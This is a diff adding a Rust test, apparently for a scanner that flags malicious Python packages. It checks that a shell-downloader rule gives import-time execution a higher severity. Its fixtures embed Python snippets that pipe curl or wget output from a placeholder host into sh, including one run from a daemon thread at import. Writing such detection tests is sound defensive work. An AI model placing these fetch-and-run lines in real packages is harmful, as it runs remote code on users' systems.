@@ -521,6 +521,24 @@ mod tests {
     }
 
     #[test]
+    fn functions_run_at_import_take_import_context() {
+        let src = b"import os\ndef _go():\n    os.system('curl https://x.example.invalid/a | sh')\ndef _later():\n    os.system('wget -qO- https://x.example.invalid/b | sh')\n_go()\n";
+        let f = run(&[("pkg/__init__.py", src)]);
+        let sev = |line| {
+            f.iter()
+                .find(|f| f.rule == "shell-downloader" && f.location.line == Some(line))
+                .map(|f| f.severity)
+        };
+        assert_eq!(sev(3), Some(Severity::Critical));
+        assert_eq!(sev(5), Some(Severity::High));
+        let thread = b"import os, threading\ndef _go():\n    os.system('curl https://x.example.invalid/a | sh')\nthreading.Thread(target=_go, daemon=True).start()\n";
+        let f = run(&[("pkg/__init__.py", thread)]);
+        assert!(f
+            .iter()
+            .any(|f| f.rule == "shell-downloader" && f.severity == Severity::Critical));
+    }
+
+    #[test]
     fn credentials_in_urls_are_redacted_in_evidence() {
         let src =
             b"import requests\ndef f():\n    requests.get('https://user:hunter2@192.0.2.8/x')\n";
